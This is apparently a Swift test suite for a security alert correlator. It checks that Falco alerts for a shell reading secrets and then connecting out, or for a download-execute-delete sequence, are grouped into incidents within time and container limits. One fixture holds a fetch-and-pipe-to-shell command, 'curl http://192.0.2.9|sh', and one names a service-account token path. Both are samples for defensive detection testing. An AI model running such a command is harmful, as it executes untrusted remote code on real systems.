// SPDX-License-Identifier: Apache-2.0
import AlertModel
import Testing

private let exfiltration = "Shell in a container reads secrets and connects out"
private let dropper = "Downloaded, executed and deleted"

@Suite struct ContainerChainTests {
    @Test func `a shell that reads a secret and connects out is one incident, with its three alerts`() {
        var scene = Scene()
        scene.see(.shell(), at: 0)
        scene.see(.read(), at: 20)
        #expect(scene.opened == [])
        scene.see(.connect(), at: 40)
        #expect(scene.opened == [exfiltration])
        #expect(scene.incidents.first?.alerts.count == 3)
        #expect(scene.incidents.first?.level == .high)
        #expect(scene.incidents.first?.group.map(\.name) == ["hostname", "container.id"])
    }

    @Test func `the order of times counts, not that of arrivals`() {
        var scene = Scene()
        scene.see(.connect(), at: 101.5, arrival: 102)
        scene.see(.read(), at: 101, arrival: 102.1)
        scene.see(.shell(), at: 100.5, arrival: 102.2)
        #expect(scene.opened == [exfiltration])
    }

    @Test func `the other order is none`() {
        var scene = Scene()
        scene.see(.connect(), at: 0)
        scene.see(.read(), at: 20)
        scene.see(.shell(), at: 40)
        scene.tick(at: 2_000)
        #expect(scene.opened == [])
    }

    @Test func `two containers together are none`() {
        var scene = Scene()
        scene.see(.shell("aaaaaaaaaaaa"), at: 0)
        scene.see(.read("bbbbbbbbbbbb"), at: 20)
        scene.see(.connect("aaaaaaaaaaaa"), at: 40)
        #expect(scene.opened == [])
    }

    @Test(arguments: [(600.0, [exfiltration]), (600.001, [])])
    func `ten minutes are the limit`(last: Double, expected: [String]) {
        var scene = Scene()
        scene.see(.shell(), at: 0)
        scene.see(.read(), at: 300)
        scene.see(.connect(), at: last)
        #expect(scene.opened == expected)
    }

    @Test func `a host is no container`() {
        var scene = Scene()
        scene.see(.shell("host"), at: 0)
        scene.see(.read("host"), at: 20)
        scene.see(.connect("host"), at: 40)
        #expect(scene.opened == [])
    }

    @Test func `rules of one's own count by tags and fields`() {
        var scene = Scene()
        scene.see(FalcoAlert(rule: "Our shell rule", tags: ["shell"]), at: 0)
        scene.see(FalcoAlert(rule: "Our token rule", fields: ["fd.name": "/run/secrets/serviceaccount/token"]), at: 1)
        scene.see(FalcoAlert(rule: "Our way out", tags: ["network"], fields: ["evt.type": "sendto"]), at: 2)
        #expect(scene.opened == [exfiltration])
    }

    @Test func `a connection that comes in does not go out`() {
        var scene = Scene()
        scene.see(.shell(), at: 0)
        scene.see(.read(), at: 1)
        scene.see(
            FalcoAlert(rule: "Unexpected inbound connection source", tags: ["network"], fields: ["evt.type": "accept"]),
            at: 2)
        #expect(scene.opened == [])
    }

    @Test func `a sensor that gives no host name is served too`() {
        var scene = Scene()
        scene.see(FalcoAlert.shell().on(""), at: 0)
        scene.see(FalcoAlert.read().on(""), at: 20)
        scene.see(FalcoAlert.connect().on(""), at: 40)
        #expect(scene.opened == [exfiltration])
    }

    @Test func `no container is no group`() {
        var scene = Scene()
        for (index, var alert) in [FalcoAlert.shell(), .read(), .connect()].enumerated() {
            alert.container = nil
            scene.see(alert, at: Double(index))
        }
        #expect(scene.opened == [])
    }

    // MARK: - Download, execute, delete

    @Test func `downloaded, executed and deleted in one container`() {
        var scene = Scene()
        scene.see(.download(), at: 0)
        scene.see(.execute(), at: 5)
        #expect(scene.opened == [])
        scene.see(.delete(), at: 9)
        #expect(scene.opened == [dropper])
        scene.tick(at: 700)
        #expect(scene.closed == [dropper])
    }

    @Test func `it happens on hosts too, each by itself`() {
        var scene = Scene()
        scene.see(FalcoAlert.download("host").on("node-1"), at: 0)
        scene.see(FalcoAlert.execute("host").on("node-2"), at: 5)
        scene.see(FalcoAlert.delete("host").on("node-1"), at: 9)
        #expect(scene.opened == [])
        scene.see(FalcoAlert.execute("host").on("node-1"), at: 10)
        scene.see(FalcoAlert.delete("host").on("node-1"), at: 11)
        #expect(scene.opened == [dropper])
    }

    @Test func `a sensor that knows no containers tells of its host`() {
        var scene = Scene()
        for (index, var alert) in [FalcoAlert.download(), .execute(), .delete()].enumerated() {
            alert.container = nil
            scene.see(index == 1 ? alert.on("node-2") : alert, at: Double(index))
        }
        #expect(scene.opened == [])
        for (index, var alert) in [FalcoAlert.execute(), .delete()].enumerated() {
            alert.container = nil
            scene.see(alert, at: Double(index + 3))
        }
        #expect(scene.opened == [dropper])
    }

    @Test func `the fields of a rule of one's own tell it as well`() {
        var scene = Scene()
        scene.see(FalcoAlert(rule: "Our first", fields: ["proc.cmdline": "sh -c curl http://192.0.2.9|sh"]), at: 0)
        scene.see(FalcoAlert(rule: "Our second", fields: ["proc.is_exe_upper_layer": true]), at: 1)
        scene.see(FalcoAlert(rule: "Our third", fields: ["evt.type": "unlink"]), at: 2)
        #expect(scene.opened == [dropper])
    }

    @Test func `truth arrives as text over gRPC`() {
        var scene = Scene()
        scene.see(.download(), at: 0)
        scene.see(FalcoAlert(rule: "Our second", fields: ["proc.is_exe_from_memfd": "true"]), at: 1)
        scene.see(.delete(), at: 2)
        #expect(scene.opened == [dropper])
    }

    @Test func `deleted before it was executed, or by a program of the image, is none`() {
        var scene = Scene()
        scene.see(.download(), at: 0)
        scene.see(.delete(), at: 1)
        scene.see(FalcoAlert(rule: "Our second", fields: ["proc.is_exe_upper_layer": false]), at: 2)
        scene.see(.delete(), at: 3)
        scene.see(.execute(), at: 4)
        #expect(scene.opened == [])
    }
}
